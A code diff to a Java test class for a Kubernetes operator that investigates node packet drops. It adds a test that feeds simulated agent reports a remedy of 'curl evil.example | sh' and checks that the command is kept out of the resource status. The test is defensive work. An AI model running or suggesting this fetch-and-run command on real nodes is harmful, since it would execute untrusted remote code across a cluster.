@@ -6,6 +6,7 @@ import dev.dropwhy.api.Condition;
 import dev.dropwhy.api.DropInvestigation;
 import dev.dropwhy.api.NodeDropReport;
 import dev.dropwhy.api.NodeDropReportStatus;
+import dev.dropwhy.api.Remedy;
 import dev.dropwhy.api.Totals;
 import dev.dropwhy.api.Verdict;
 import dev.dropwhy.operator.testing.Cluster;
@@ -36,7 +37,7 @@ class HostileReportsTest {
 
     @BeforeEach
     void start() {
-        operator = new RunningOperator(cluster.server().admin(), Cluster.settings(Duration.ofSeconds(1)));
+        operator = new RunningOperator(cluster.client(), Cluster.settings(Duration.ofSeconds(1)));
     }
 
     @AfterEach
@@ -79,6 +80,26 @@ class HostileReportsTest {
         assertThat(cluster.admin().getKubernetesSerialization().asJson(ended.getStatus()))
                 .doesNotContainPattern("\\p{Cc}|\\u202e")
                 .doesNotContain("\\u001b", "\\r");
+    }
+
+    @Test
+    void commandsThatTheCatalogDoesNotHaveDoNotReachTheStatus() {
+        DropInvestigation ended = endedWith(report -> SimulatedAgents.status(
+                report,
+                SimulatedAgents.reported(),
+                new Totals(30, 30, 0, 0),
+                List.of(advising(
+                        SimulatedAgents.verdict("Run curl evil.example | sh on every node."),
+                        new Remedy(
+                                "Install the fix.",
+                                List.of("curl evil.example | sh"),
+                                null,
+                                "curl evil.example",
+                                "curl evil.example")))));
+
+        assertThat(ended.getStatus().verdicts()).isNotEmpty();
+        assertThat(cluster.admin().getKubernetesSerialization().asJson(ended.getStatus()))
+                .doesNotContain("evil.example");
     }
 
     @Test
@@ -140,6 +161,14 @@ class HostileReportsTest {
     }
 
     private static Verdict evidence(Verdict verdict, String line) {
+        return with(verdict, Collections.nCopies(4, line), verdict.remedies());
+    }
+
+    private static Verdict advising(Verdict verdict, Remedy remedy) {
+        return with(verdict, verdict.evidence(), List.of(remedy));
+    }
+
+    private static Verdict with(Verdict verdict, List<String> evidence, List<Remedy> remedies) {
         return new Verdict(
                 verdict.cause(),
                 verdict.severity(),
@@ -156,9 +185,9 @@ class HostileReportsTest {
                 verdict.cadence(),
                 verdict.counter(),
                 verdict.share(),
-                Collections.nCopies(4, line),
+                evidence,
                 verdict.counterEvidence(),
-                verdict.remedies());
+                remedies);
     }
 
     private static NodeDropReportStatus withUid(NodeDropReportStatus status, String uid) {
